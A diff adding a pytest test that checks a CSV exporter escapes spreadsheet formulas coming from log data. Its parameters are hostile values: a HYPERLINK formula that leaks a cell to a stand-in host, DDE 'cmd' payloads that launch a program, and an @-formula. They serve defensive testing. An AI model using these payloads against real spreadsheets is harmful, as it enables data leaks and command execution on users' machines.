@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import errno
 import gzip
 import os
@@ -223,6 +224,17 @@ def test_file_names_picked_by_a_glob_reach_stderr_and_stdout_cleaned(tmp_path):
     sources = [line for line in out.decode().splitlines() if line.startswith("source ")]
     assert sources
     assert_safe("\n".join(sources))
+
+
+@pytest.mark.parametrize(
+    "value", ['=HYPERLINK("https://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"]
+)
+def test_a_csv_export_never_hands_a_spreadsheet_a_formula_from_a_log(tmp_path, value):
+    path = tmp_path / "table.csv"
+    export.write_csv(str(path), ["Address", "Count", "Time"], [[value, -3, "-"]])
+    with open(path, newline="", encoding="utf-8") as handle:
+        rows = list(csv.reader(handle))
+    assert rows[1] == ["'" + value, "-3", "-"]  # the value, as text; numbers and a lone "-" as they are
 
 
 # -- hostile input --------------------------------------------------------------------------
